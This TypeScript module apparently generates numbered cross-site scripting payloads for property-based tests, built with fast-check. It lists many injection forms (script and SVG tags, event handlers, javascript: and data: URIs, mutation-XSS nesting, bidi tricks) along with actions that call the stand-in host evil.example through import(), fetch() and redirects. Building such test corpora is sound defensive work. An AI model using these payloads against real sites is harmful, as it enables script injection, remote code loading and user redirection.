// Texts that try to become more than text, made of openers and actions. Each has a number of its own, so that what runs, and what shows, is known by it.
import fc from 'fast-check'

/** A host that nobody has; whoever asks it was led there. */
export const evil = 'evil.example'
const here = '¤'

// What stands around an action: markup, handlers, schemes, and what breaks out of attributes, scripts, styles, templates and Markdown.
const openers = [
  ...[
    '<script>¤</script>',
    '</script><script>¤</script>',
    '<!--<script>¤//-->',
    '</ScRiPt ><svg onload=¤>',
    '<scr<script>ipt>¤</scr</script>ipt>',
  ],
  ...[
    '\u2028</script><script>¤</script>',
    '";¤;//',
    "';¤;//",
    '`;¤;//',
    '\\";¤;//',
    '\x24{¤}',
    '{{¤}}',
    '<%= ¤ %>',
    '"]}];¤;[{["',
    ']]><script>¤</script>',
  ],
  ...[
    '<svg onload=¤>',
    '<b onclick=¤>',
    '<img src=x onerror=¤>',
    '"><img src=x onerror=¤>',
    "'><img src=x onerror=¤>",
    '" autofocus onfocus=¤ x="',
  ],
  ...[
    "' onfocus='¤' autofocus x='",
    '<input autofocus onfocus=¤>',
    '<details open ontoggle=¤>',
    '<body onpageshow=¤>',
    '<video><source onerror=¤>',
  ],
  ...[
    '<svg><script>¤</script></svg>',
    '<svg><animate onbegin=¤ attributeName=x dur=1s>',
    '<svg><style><img src=x onerror=¤>',
    '<math href="javascript:¤">x',
  ],
  ...['<math><mtext><table><mglyph><style><img src=x onerror=¤>', '<noscript><p title="</noscript><img src=x onerror=¤>">'],
  ...[
    '</title><script>¤</script>',
    '</textarea><script>¤</script>',
    '</style><script>¤</script>',
    '<template><script>¤</script></template>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.¤</script>">',
    '<iframe src="javascript:parent.¤">',
    '<object data="javascript:¤">',
    '<form action="javascript:¤">',
  ],
  ...[
    'javascript:¤',
    'jav\u0009ascript:¤',
    'data:text/html,<script>¤</script>',
    '[x](javascript:¤)',
    '<a href="jav&#x09;ascript:¤">x</a>',
    '&lt;svg onload=¤&gt;',
  ],
  ...[
    `<base href="//${evil}/¤">`,
    `<link rel=stylesheet href="//${evil}/¤">`,
    `<style>@import "//${evil}/¤";</style>`,
    `<meta http-equiv=refresh content="0;url=//${evil}/¤">`,
  ],
  ...[`![x](//${evil}/¤)`, `x;background:url(//${evil}/¤)`, '%3Csvg onload=¤%3E', '\u202e<svg onload=¤>', '\u2067">\u2069<svg onload=¤>'],
]
const plain = (number: string) => `h(${number})`
const actions = [
  plain,
  (number: string) => `self['h'](${number})`,
  (number: string) => `alert(${number})`,
  (number: string) => `import('//${evil}/${number}')`,
  (number: string) => `fetch('//${evil}/${number}')`,
  (number: string) => `location='//${evil}/${number}'`,
]

/** What people and tools make of white space; what reverses the order of letters is taken out of what is written. */
export const asShown = (text: string) =>
  text
    .replace(/[\u202a-\u202e\u2066-\u2069]/g, '')
    .replace(/\s+/g, ' ')
    .trim()

/** The payloads of a seed: the `index`th for a place, which has a number from 1 to 99, none of them twice; no longer than `longest`. */
export const makeTexts = (seed: number) => {
  const [order = [], starts = []] =
    fc.sample(
      fc.tuple(
        fc.shuffledSubarray(openers, { minLength: openers.length }),
        fc.array(fc.nat(actions.length - 1), { minLength: openers.length, maxLength: openers.length }),
      ),
      { numRuns: 1, seed },
    )[0] ?? []
  const textOf = (index: number, place: number, longest = 200) => {
    const number = `${index}${place ? `.${place}` : ''}`
    for (let step = 0; step < order.length; step += 1) {
      const at = (index + step) % order.length
      const opener = order[at] ?? ''
      const action = actions[((starts[at] ?? 0) + Math.floor(index / order.length)) % actions.length] ?? plain
      for (const make of [action, plain]) {
        const text = opener.replace(here, () => make(number))
        if ([...text].length <= longest) return text
      }
    }
    return plain(number)
  }
  return textOf
}
export type TextOf = ReturnType<typeof makeTexts>
